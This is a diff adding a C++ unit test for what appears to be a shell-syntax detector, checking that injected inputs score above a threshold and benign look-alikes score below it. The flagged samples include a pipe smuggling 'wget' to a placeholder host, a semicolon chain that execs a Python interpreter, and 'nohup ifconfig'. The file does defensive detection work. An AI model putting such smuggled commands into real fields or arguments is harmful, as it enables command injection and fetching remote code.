@@ -222,5 +222,13 @@ TEST(Shell, ConditionsOfCmdWithoutSigns) {
   EXPECT_LT(points("if 50%1 == more"), kThreshold);
 }
 
+TEST(Shell, WhatAShellReadsOverAndWhatItAsksFor) {
+  for (const std::string_view text :
+       {"x|$u wget http://h.example", "nohup ifconfig\n", "a;exec $(which python || which python3) -", "~+", "~-2/a"})
+    EXPECT_GE(points(text), kThreshold) << text;
+  for (const std::string_view text : {"nohup is a command\n", "~5", "~-ish", "~", "about ~-2", "pays |$5 more"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
 }  // namespace
 }  // namespace onesec::inspect
